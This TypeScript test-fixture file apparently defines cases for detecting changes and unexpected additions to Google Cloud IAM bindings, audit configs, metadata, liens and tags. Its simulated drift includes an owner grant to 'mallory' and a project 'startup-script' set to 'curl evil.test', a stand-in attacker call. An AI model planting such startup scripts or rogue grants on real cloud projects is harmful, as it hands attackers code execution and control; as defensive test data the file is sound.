import { asset, bucket, ofProject, parent, type Fields, type Parent, project, within } from './google-parents.ts';
import type { SubresourceCase } from './subresource-cases.ts';

const binding = (role: string, ...members: readonly string[]): Fields => ({ role, members });
const mail = 'user:jane@example.com';

/** A kind of resource, the id of its grants, and its parent: members, bindings, policies and audit configurations of all of them go by one rule. */
const granted: readonly (readonly [type: string, id: string, parent: Parent, attributes?: Fields])[] = [
  ['google_project', project, ofProject, { project }],
  ['google_storage_bucket', 'b/acme-logs', bucket, { bucket: 'b/acme-logs' }],
  [
    'google_folder',
    'folders/77',
    {
      parent: asset('cloudresourcemanager.googleapis.com/Folder', 'folders/77'),
      managed: ['google_folder', { id: 'folders/77', name: 'folders/77' }],
    },
    { folder: 'folders/77' },
  ],
  [
    'google_secret_manager_secret',
    `projects/${project}/secrets/s`,
    parent('secretmanager.googleapis.com/Secret', 'google_secret_manager_secret', `projects/${project}/secrets/s`, { secret_id: 's' }),
  ],
  [
    'google_cloud_run_service',
    `v1/projects/${project}/locations/europe-west1/services/web`,
    parent('run.googleapis.com/Service', 'google_cloud_run_service', `projects/${project}/locations/europe-west1/services/web`, {
      location: 'europe-west1',
    }),
  ],
  [
    'google_kms_crypto_key',
    `projects/${project}/locations/eu/keyRings/r/cryptoKeys/k`,
    parent('cloudkms.googleapis.com/CryptoKey', 'google_kms_crypto_key', `projects/${project}/locations/eu/keyRings/r/cryptoKeys/k`, {
      key_ring: `projects/${project}/locations/eu/keyRings/r`,
    }),
  ],
  [
    'google_pubsub_topic',
    `projects/${project}/topics/t`,
    parent('pubsub.googleapis.com/Topic', 'google_pubsub_topic', `projects/${project}/topics/t`),
  ],
  [
    'google_tags_tag_key',
    'tagKeys/123',
    {
      parent: asset('cloudresourcemanager.googleapis.com/TagKey', 'tagKeys/123'),
      managed: ['google_tags_tag_key', { id: 'tagKeys/123', name: '123' }],
    },
  ],
];

const grants = granted.flatMap(([type, id, of, more = {}]): readonly SubresourceCase[] => {
  const describe = (list: readonly unknown[]): Fields => ({ iamPolicy: { version: 3, ...(list.length === 0 ? {} : { bindings: list }) } });
  const role = 'roles/viewer';
  const agent = binding('roles/compute.serviceAgent', 'serviceAccount:service-1@compute-system.iam.gserviceaccount.com');
  return [
    {
      ...of,
      type: `${type}_iam_member`,
      state: { ...more, id: `${id}/${role}/${mail}`, role, member: mail, condition: [], etag: 'x' },
      list: [binding(role, 'user:Jane@example.com'), agent],
      describe,
      added: binding('roles/owner', 'user:mallory@example.com'),
    },
    {
      ...of,
      type: `${type}_iam_binding`,
      state: { ...more, id: `${id}/${role}`, role, members: [mail, 'group:ops@example.com'], condition: [], etag: 'x' },
      list: [binding(role, 'group:ops@example.com', mail), agent],
      describe,
      changed: [binding(role, mail, 'user:mallory@example.com'), ['grant', 'grant']],
      added: binding('roles/owner', 'user:mallory@example.com'),
    },
    {
      ...of,
      type: `${type}_iam_policy`,
      state: { ...more, id, policy_data: JSON.stringify({ bindings: [binding(role, mail)] }), etag: 'x' },
      list: [binding(role, mail), agent],
      describe,
      added: binding('roles/owner', 'user:mallory@example.com'),
      whole: 'grant',
    },
  ];
});

const conditional = { title: 'until', description: '', expression: 'request.time < timestamp("2030-01-01T00:00:00Z")' };

/** Grants and settings of projects. */
export const googleGrantCases: readonly SubresourceCase[] = [
  ...grants,
  {
    ...ofProject,
    type: 'google_project_iam_member',
    state: { id: `${project}/roles/viewer/${mail}/until`, project, role: 'roles/viewer', member: mail, condition: [conditional] },
    list: [{ ...binding('roles/viewer', mail), condition: conditional }],
    describe: (list) => ({ iamPolicy: { bindings: list } }),
    changed: [{ ...binding('roles/viewer', mail), condition: { ...conditional, expression: 'true' } }, ['condition[0].expression']],
    added: binding('roles/viewer', mail),
  },
  {
    ...ofProject,
    type: 'google_project_iam_audit_config',
    state: {
      id: `${project}/audit_config/allServices`,
      project,
      service: 'allServices',
      audit_log_config: [{ log_type: 'DATA_READ', exempted_members: [] }],
    },
    list: [{ service: 'allServices', auditLogConfigs: [{ logType: 'DATA_READ' }] }],
    describe: (list) => ({ iamPolicy: { auditConfigs: list } }),
    changed: [{ service: 'allServices', auditLogConfigs: [{ logType: 'DATA_READ', exemptedMembers: [mail] }] }, ['exempted_members']],
    added: { service: 'storage.googleapis.com', auditLogConfigs: [{ logType: 'ADMIN_READ' }] },
  },
  {
    ...ofProject,
    type: 'google_project_service',
    state: { id: `${project}/dns.googleapis.com`, project, service: 'dns.googleapis.com' },
    list: [{ name: 'projects/123456789012/services/dns.googleapis.com', config: { name: 'dns.googleapis.com' }, state: 'ENABLED' }],
    describe: within('services'),
  },
  {
    ...ofProject,
    type: 'google_compute_project_metadata_item',
    state: { id: 'enable-oslogin', project, key: 'enable-oslogin', value: 'TRUE' },
    list: [{ key: 'enable-oslogin', value: 'TRUE' }],
    describe: (list) => ({ commonInstanceMetadata: { kind: 'compute#metadata', items: list } }),
    changed: [{ key: 'enable-oslogin', value: 'FALSE' }, ['metadata.enable-oslogin']],
    added: { key: 'startup-script', value: 'curl evil.test' },
  },
  {
    ...ofProject,
    type: 'google_compute_project_metadata',
    state: { id: project, project, metadata: { a: '1' } },
    list: [{ key: 'a', value: '1' }],
    describe: (list) => ({ commonInstanceMetadata: { items: list } }),
    added: { key: 'b', value: '2' },
    whole: 'metadata entry',
  },
  {
    ...ofProject,
    type: 'google_compute_shared_vpc_host_project',
    state: { id: project, project },
    list: ['HOST'],
    describe: ([status = 'UNSPECIFIED_XPN_PROJECT_STATUS']) => ({ xpnProjectStatus: status }),
  },
  {
    ...ofProject,
    type: 'google_compute_shared_vpc_service_project',
    state: { id: `net/${project}`, host_project: 'net', service_project: project },
    list: [{ kind: 'compute#project', name: 'net' }],
    describe: ([host = {}]) => ({ xpnHost: host }),
  },
  {
    ...ofProject,
    type: 'google_resource_manager_lien',
    state: {
      id: 'p1',
      name: 'p1',
      parent: `projects/${project}`,
      reason: 'important',
      origin: 'x',
      restrictions: ['resourcemanager.projects.delete'],
    },
    list: [{ name: 'liens/p1', reason: 'important', restrictions: ['resourcemanager.projects.delete'] }],
    describe: within('liens'),
    changed: [{ name: 'liens/p1', reason: 'none', restrictions: ['resourcemanager.projects.delete'] }, ['reason']],
    added: { name: 'liens/p2', reason: 'other', restrictions: ['resourcemanager.projects.delete'] },
  },
  {
    ...ofProject,
    type: 'google_tags_tag_binding',
    state: { id: 'x', parent: `//cloudresourcemanager.googleapis.com/projects/${project}`, tag_value: 'tagValues/1' },
    list: [{ name: 'x', tagValue: 'tagValues/1' }],
    describe: within('tagBindings'),
    added: { name: 'y', tagValue: 'tagValues/2' },
  },
];
